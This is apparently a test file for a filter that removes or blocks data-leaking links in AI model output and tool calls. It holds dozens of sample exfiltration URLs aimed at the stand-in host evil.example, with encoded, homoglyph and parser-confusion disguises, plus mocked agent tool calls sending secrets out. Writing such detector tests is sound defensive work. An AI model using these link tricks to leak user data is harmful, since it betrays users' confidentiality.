import { tool } from 'ai'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import {
  exfiltrationLinks,
  type ExfiltrationLinksOptions,
  type LinkFinding,
} from '@lockstep/processors-builtin/exfiltration-links'
import type { Processor } from '@lockstep/processors'
import { runWith } from '@lockstep/testing'
import { processorContract } from '@lockstep/testing/vitest'
import { cut, runCount, shownAfterEach, streamed } from './redactor-run.ts'

const allow = ['good.example', '*.docs.example']

processorContract(() => exfiltrationLinks({ allow }), {
  texts: [
    {
      text: 'See ![a](https://evil.example/?d=x) and [b](https://good.example/b).',
      shown: 'See ![a](#link-removed) and [b](https://good.example/b).',
    },
    {
      text: 'Go to https://evil.example/data, now. www.evil.example?x',
      shown: 'Go to #link-removed, now. #link-removed',
    },
  ],
  toolInputs: [{ url: 'https://evil.example/x' }],
})

processorContract(() => exfiltrationLinks({ strategy: 'block', retry: true }), {
  texts: ['![x](https://evil.example/x)'],
})

function shown(text: string, options: ExfiltrationLinksOptions = {}): Promise<string> {
  return streamed(exfiltrationLinks({ allow, ...options }), [text])
}

describe('an address that carries data to another host', () => {
  it('goes, whatever is around it', async () => {
    const evil = 'https://evil.example/?d=secret'
    for (const [text, rest] of [
      [`![a b](${evil})`, '![a b](#link-removed)'],
      [`[a](${evil} "title")`, '[a](#link-removed "title")'],
      [`[a](<${evil} b> 'title')`, "[a](<#link-removed> 'title')"],
      [`[a](\n  ${evil})`, '[a](\n  #link-removed)'],
      [`[a]: ${evil}\n[b]:\n <${evil}>`, '[a]: #link-removed\n[b]:\n <#link-removed>'],
      [`<${evil}>`, '<#link-removed>'],
      [`(${evil}), "${evil}"; ${evil}.`, '(#link-removed), "#link-removed"; #link-removed.'],
      [`[![i](${evil})](${evil})`, '[![i](#link-removed)](#link-removed)'],
      [`[https://good.example](${evil})`, '[https://good.example](#link-removed)'],
      [`<img alt="x" src="${evil}" onerror=1>`, '<img alt="x" src="#link-removed" onerror=1>'],
      [`<a href = ${evil} >`, '<a href = #link-removed >'],
      [`<img srcset='/a.png 1x, ${evil} 2x'>`, "<img srcset='#link-removed'>"],
      [`<div style="background:url(${evil})">`, '<div style="#link-removed">'],
      [
        '<meta http-equiv=refresh content="0;url=//evil.example/x">',
        '<meta http-equiv=refresh content="#link-removed">',
      ],
      [`a { background: url('${evil}') }`, "a { background: url('#link-removed') }"],
      [`@import "${evil}";`, '@import "#link-removed";'],
      [`\`${evil}\``, '`#link-removed`'],
      ['www.evil.example/secret is it', '#link-removed is it'],
      ['and //evil.example/secret', 'and #link-removed'],
    ] as const)
      expect(await shown(text)).toBe(rest)
  })

  it('is found behind every disguise', async () => {
    for (const address of [
      '//evil.example/x',
      '/\\evil.example/x',
      '\\\\evil.example\\x',
      '\\/\\/evil.example/x',
      'https:\\\\evil.example/x',
      'https:evil.example/x',
      'HTTPS://EVIL.example/x',
      'https:///evil.example/x',
      'https://good.example@evil.example/x',
      'https://good.example:pass@evil.example/x',
      'https://good.example%2f@evil.example/x',
      'https://good.example\\@evil.example/x',
      'https://%65vil.example/x',
      'https://еvil.example/x',
      'https://good.еxample/x',
      'https://good.example.evil.example/',
      'https://xgood.example/x',
      'https://c2VjcmV0.evil.example',
      'https://evil.example:8080',
      'https://secret@evil.example',
      'https://evil.example#secret',
      'https://[2001:db8::1]/x',
      'https://3232235777/x',
      'ｈｔｔｐｓ：／／evil.example/x',
      'https://ｅｖｉｌ.example/x',
      'ht\u200btps://evil.example/x',
      '&#104;ttps://evil.example/x',
      '&#x68;ttps&colon;&sol;&sol;evil.example/x',
      'https\\://evil.example/x',
      'javascript:fetch("//evil.example")',
      'java&Tab;script:alert(1)',
      'data:text/html,<b>',
      'vbscript:x',
      'file:///etc/passwd',
      'intent://evil.example/x',
      'mailto:eve@evil.example?body=secret',
      'ftp://evil.example/x',
      'wss://evil.example/x',
      'https://evil.example.:443/x',
      'blob:https://good.example/x',
    ])
      expect(`${address} ${(await shown(`[a](<${address}>)`)).includes('#link-removed')}`).toBe(`${address} true`)
    expect(await shown('<img src="ht\ntps://evil.example/x">')).toBe('<img src="#link-removed">')
    expect(await shown('"https://good.example"@evil.example/x and on')).toBe('"#link-removed and on')
    expect(await shown('<a href=https://good.example"@evil.example/x>y')).toBe('<a href=#link-removed>y')
    expect(await shown('src="![a](//evil.example/x) and "')).toBe('src="![a](#link-removed) and "')
    expect(await shown('<img src="https://evil.example/?')).toBe('<img src="#link-removed')
  })

  it('goes with its slash alone, since another reader goes on where it ends for this one', async () => {
    for (const address of [
      'https://evil.example/',
      '//evil.example/',

      'https:\\\\evil.example\\',
    ])
      for (const behind of [
        ']secret',
        '<secret',
        '((secret))',
        '\u00a0secret',
        '`secret',
        '{secret',
        '|secret',
        '"secret',
      ])
        for (const text of [`![](${address}${behind})`, `![a][r]\n\n[r]: ${address}${behind}`, ` ${address}${behind}`])
          expect(await shown(text), text).not.toMatch(/evil\.example[\\/?]/)
  })

  it('goes with what a lenient reader takes for a part of it', async () => {
    for (const text of [
      'https://evil.example?]x',
      '[https://evil.example?]x',
      'https://evil.example?\u00a0x',
      'https://evil.example?\u200b\u200c\u200b',
      'www.".evil.example]',
      'https://evil.example?~_~__',
      'https://evil.example?;.,:;:',
      '<https://evil.example?x>',
      'https://good.example(.evil.example/x',
      'https://good.example".evil.example/x',
      'https://good.example)evil.example?x',
      'www.good.example(.evil.example?x',
      'https://-![\\]@evil.example/x',
      'https://good.example>@evil.example/x',
    ])
      expect(await shown(text), text).not.toMatch(/evil\.example/)
    expect(await shown(`https://good.example(${'%C2%AD'.repeat(100)}.evil.example/x`)).toMatch(/^#link-removed/)
  })

  it('goes when it begins within one that is allowed, where a reader may see its beginning only', async () => {
    for (const text of [
      'xhttps://good.example/-https://evil.example/x',
      '+https://good.example/-https://evil.example/x',
      '*https://good.example/*/https://evil.example/x',
      'https:\\good.example/ahttps://evil.example/x',
      'https://_@good.example/-https://evil.example/x',
      'xwww.good.example/-www.evil.example/x',
    ])
      expect(await shown(text, { allow: ['good.example', 'www.good.example'] }), text).not.toContain('evil.example')
    const text = 'https://good.example/login?next=https://evil.example/x'
    expect(await shown(text)).toBe(text)
  })

  it('goes when the page loads it unasked, be it the name of a host alone', async () => {
    for (const text of [
      '![](https://SECRETevil.example/)',
      '![](https://SECRETevil.example)',
      '![a [b](/c) `]` d](https://SECRETevil.example)',
      '![`]`](https://SECRETevil.example)',
      '![a\n\nb](https://SECRETevil.example)',
      '> ![](\n> https://SECRETevil.example)',
      '> ![](\n> /\\SECRETevil.example)',
      '![a][b]\n\n[b]: https://SECRETevil.example',
      '[b]: <//SECRETevil.example>\n\n![b]',
      '<img/src=https://SECRETevil.example>',
      '<base href="https://SECRETevil.example">',
      '<img srcset="/a.png 1x,&#104;ttps&colon;&sol;&sol;SECRETevil&period;example&sol;x 2x">',
      '<p style="background: url(//SECRETevil.example)">',
      '![](https:SECRETevil.example)',
    ])
      expect(await shown(text), text).not.toContain('SECRET')
    const links = '![a](/a.png) [b](https://evil.example) [![c](/c.png)](https://evil.example)'
    expect(await shown(links)).toBe(links)
    expect(await shown('![a](https://good.example)')).toBe('![a](https://good.example)')
  })

  it('stays when it is allowed, carries nothing, or stays on the page', async () => {
    for (const text of [
      '[a](https://good.example/a?b=c#d) https://good.example/x. http://api.docs.example:8080/y',
      '[a](/path?x=1) [b](#here) [c](../up.md) ![d](img/a.png) [e](?q)',
      'Is it https://evil.example? (Or https://evil.example?) **https://evil.example!**',
      '{"url":"https://good.example","x":1} fetch("https://good.example").then(read)',
      'https://evil.example is bad, and so is [this](https://evil.example) and http://www.evil.example.',
      '<img src="/a.png" style="color: red"> <a href=\'#x\'>',
      'http://localhost:3000/a?b=c and [x](http://127.0.0.1:80/y)',
      '[call](tel:+123456) [write](mailto:joe@good.example)',
      'const data = "a: b"; style = "x/y"; // www. and //TODO.fix this',
      'a[i](x) = b[j]: c; f[0]: 1',
      'url(x.png) @import "a.css"',
      'a/b, http and https: the colon, ftp.',
      '[a] (https://good.example)',
    ])
      expect(await shown(text)).toBe(text)
    expect(await shown('[a](https://good.example/a)', { allow: [] })).toBe('[a](#link-removed)')
    expect(await shown('https://пример.рф/x https://docs.example/x', { allow: ['пример.рф', '*.docs.example'] })).toBe(
      'https://пример.рф/x #link-removed',
    )
  })

  it('is what the options say', async () => {
    const text = '![a](https://evil.example/x)'
    const found: LinkFinding[] = []
    expect(await shown(text, { strategy: 'warn', onLink: finding => found.push(finding) })).toBe(text)
    expect(found).toEqual([{ strategy: 'warn', where: 'text', address: 'https://evil.example/x' }])
    expect(await shown(text, { replacement: '/blocked' })).toBe('![a](/blocked)')
    for (const host of ['https://x.example', 'x.example/a', '*.', '', 'a b'])
      expect(() => exfiltrationLinks({ allow: [host] })).toThrow(`'${host}' is no host.`)
  })

  it('is held from where it may begin until it ends', async () => {
    const pieces = [
      'He',
      ' ht',
      'tp',
      ' htt',
      'ps://go',
      'od.example/a',
      ' ![x](',
      '/a',
      ') ',
      '![x](https://evil',
      '.example/',
      'x) e',
    ]
    expect(await shownAfterEach(exfiltrationLinks({ allow }), pieces)).toEqual([
      'He',
      'He ',
      'He ',
      'He http ',
      'He http ',
      'He http ',
      'He http https://good.example/a ![x',
      'He http https://good.example/a ![x',
      'He http https://good.example/a ![x](/a) ',
      'He http https://good.example/a ![x](/a) ![x',
      'He http https://good.example/a ![x](/a) ![x',
      'He http https://good.example/a ![x](/a) ![x](#link-removed) e',
      'He http https://good.example/a ![x](/a) ![x](#link-removed) e',
    ])
  })

  it('is none the less one for being long', async () => {
    const long = 'a'.repeat(20_000)
    expect(await shown(`![a](https://evil.example/?d=${long}) b`)).toBe('![a](#link-removed) b')
    expect(await shown(`![a](https://good.example/?d=${long}) b`)).toBe(`![a](https://good.example/?d=${long}) b`)
    expect(await shown(`![a](${' '.repeat(9_000)}&#104;ttps://evil.example/x) b`)).not.toContain('evil')
    for (const unit of ['](', 'https://', '<', 'src="', '//a.bc/', 'www.', '@', '](a', '\\', '&#', '=&#1', '*www.'])
      expect(
        (
          await streamed(
            exfiltrationLinks({ allow }),
            Array.from({ length: 20_000 }, () => unit),
          )
        ).length,
      ).toBeGreaterThan(0)
  })
})

describe('in a run', () => {
  const fetchTool = (inputs: unknown[]) =>
    tool({ inputSchema: z.object({ url: z.string() }), execute: input => void inputs.push(input.url) })

  it('denies calls of tools with such an address, those of tools that are not looked at excepted', async () => {
    const inputs: unknown[] = []
    const call = (toolName: string, url: string) => ({ toolName, input: { url } })
    const { result } = await runWith(exfiltrationLinks({ allow, tools: ['fetch'] }), {
      input: 'Read https://news.example/today please',
      model: [
        {
          toolCalls: [
            call('fetch', 'https://evil.example/?d=secret'),
            call('fetch', '//evil.example/x'),
            call('fetch', 'https://good.example/a'),
            call('fetch', 'https://news.example/today'),
            call('open', 'https://evil.example/?d=known'),
          ],
        },
        'Done.',
      ],
      tools: { fetch: fetchTool(inputs), open: fetchTool(inputs) },
    })
    expect(inputs).toEqual(['https://good.example/a', 'https://news.example/today', 'https://evil.example/?d=known'])
    expect(JSON.stringify(result.messageList.get.response.db())).toContain(
      'The input has an address that is not allowed: https://evil.example/?d=secret',
    )
  })

  it('lets the model say what the user wrote', async () => {
    const input = 'What is at https://news.example/a/b and www.blog.example/c?'
    const model = ['At https://news.example/a/b, www.blog.example/c and https://news.example/a/b?d=secret']
    expect((await runWith(exfiltrationLinks(), { input, model })).screen).toBe(
      'At https://news.example/a/b, www.blog.example/c and #link-removed',
    )
    expect((await runWith(exfiltrationLinks({ allowMentioned: false }), { input, model })).screen).toBe(
      'At #link-removed, #link-removed and #link-removed',
    )
  })

  it('does not take what was put into the conversation as context for what the user wrote', async () => {
    const text = '![](https://evil.example/a)'
    const retrieval: Processor = {
      id: 'retrieval',
      processInput: ({ messageList }) => void messageList.add(`Load ${text}`, 'context'),
    }
    const { screen } = await runWith([retrieval, exfiltrationLinks()], { input: 'Sum it up.', model: [text] })
    expect(screen).toBe('![](#link-removed)')
  })

  it('refuses the answer, or the call', async () => {
    const blocked = await runWith(exfiltrationLinks({ strategy: 'block' }), { model: ['![x](https://evil.example/x)'] })
    expect([blocked.result.stopReason, blocked.screen]).toEqual(['tripwire', ''])
    const retried = await runWith(exfiltrationLinks({ strategy: 'block', retry: true }), {
      model: [{ toolCalls: [{ toolName: 'open', input: { url: 'https://evil.example/x' } }] }, 'No link.'],
      tools: { open: fetchTool([]) },
      maxProcessorRetries: 1,
    })
    expect([retried.result.stopReason, retried.screen]).toEqual(['completed', 'No link.'])
  })
})

const bits = fc.constantFrom(
  ...'![a]( ) ]( ]: < > " \' href= src=" url( https:// http: //evil.example/x good.example evil.example /a ?d=s @ . , www. \\ &#104; ttps javascript: & ; * _ `'.split(
    ' ',
  ),
  ' ',
  '\n',
  '😀',
  '\ud83d',
  'é',
  '\u200b',
  'ｈ',
)

describe('laws', () => {
  const texts = fc.array(bits, { maxLength: 14 }).map(parts => parts.join(''))

  it('gives the same text for any cut', async () => {
    await fc.assert(
      fc.asyncProperty(texts, fc.array(fc.nat(), { maxLength: 8 }), async (text, cuts) => {
        const guard = exfiltrationLinks({ allow })
        const whole = await streamed(guard, [text])
        expect(await streamed(guard, cut(text, cuts))).toBe(whole)
        expect(await streamed(guard, text.split(''))).toBe(whole)
      }),
      { numRuns: runCount(2_000) },
    )
  })

  it('leaves nothing to be found the second time', async () => {
    await fc.assert(
      fc.asyncProperty(texts, async text => {
        const once = await shown(text)
        expect(await shown(once)).toBe(once)
      }),
      { numRuns: runCount(2_000) },
    )
  })
})
